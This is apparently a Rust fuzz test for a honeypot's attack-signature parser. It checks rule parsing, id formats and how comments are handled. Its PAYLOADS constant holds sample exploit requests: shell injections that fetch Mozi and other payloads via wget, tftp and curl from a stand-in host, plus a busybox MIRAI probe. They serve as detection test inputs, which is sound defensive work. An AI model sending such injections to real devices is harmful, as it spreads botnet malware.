//! Files of rules, as contrib/signatures.toml.

#![no_main]

use std::collections::BTreeSet;

use honeyxdp_fuzz::{assert_plain, lines};
use honeyxdp_signatures::{Problem, Signatures};
use libfuzzer_sys::fuzz_target;

/// Payloads that every file of rules has to say something about.
const PAYLOADS: [&[u8]; 5] = [
    b"",
    b"GET /shell?cd+/tmp;wget+http://192.0.2.1/Mozi.m HTTP/1.1\r\nHost: x\r\n\r\n",
    b"POST /x HTTP/1.1\r\nSOAPAction: a\r\n\r\n<a>`tftp -g -r b 192.0.2.1`</a>",
    b"\0\x01\xff/bin/busybox MIRAI",
    b"id=%24%28curl%20http%3a//192.0.2.1/x%29\n\n\n",
];

/// What a file says, in a form that can be compared.
fn said(text: &str) -> Result<String, Vec<Problem>> {
    let rules = Signatures::parse(text).map_err(|error| error.problems)?;
    let labels = PAYLOADS.map(|payload| format!("{:?}", rules.classify(payload)));
    Ok(format!("{rules:?} {labels:?}"))
}

/// Ids are names and versions, and none is there twice.
fn check_ids(rules: &Signatures) {
    let mut seen = BTreeSet::new();
    for rule in rules.exploits().iter().chain(rules.families()) {
        let (name, version) = rule.id.split_once('/').expect("an id has a version");
        assert!(!name.is_empty() && version.parse::<u32>().is_ok_and(|version| version > 0), "{:?}", rule.id);
        assert!(seen.insert(&rule.id), "{:?} is there twice", rule.id);
        assert!(rule.name.bytes().all(|byte| byte.is_ascii_graphic()), "{:?}", rule.name);
        assert!(![&rule.title, &rule.source, &rule.caveat].iter().any(|text| text.trim().is_empty()), "{rule:?}");
    }
}

fuzz_target!(|text: &str| {
    let first = said(text);
    match Signatures::parse(text) {
        Ok(rules) => check_ids(&rules),
        Err(error) => {
            assert!(!error.problems.is_empty());
            assert!(error.problems.is_sorted_by_key(|problem| problem.line), "{error}");
            for Problem { line, message } in &error.problems {
                assert!((1..=lines(text)).contains(line), "line {line} of {}", lines(text));
                assert!(!message.contains('\n'), "{message:?}");
                assert_plain(message);
            }
        }
    }
    // A byte order mark is one at the beginning only.
    if !text.starts_with('\u{feff}') {
        let moved = said(&format!("# a comment\n{text}"));
        let back = moved.map_err(|mut problems| {
            // What is wrong with all of it stands on its first line.
            problems.iter_mut().for_each(|problem| problem.line = 1.max(problem.line - 1));
            problems
        });
        assert_eq!(back, first, "a comment changes it");
    }
});
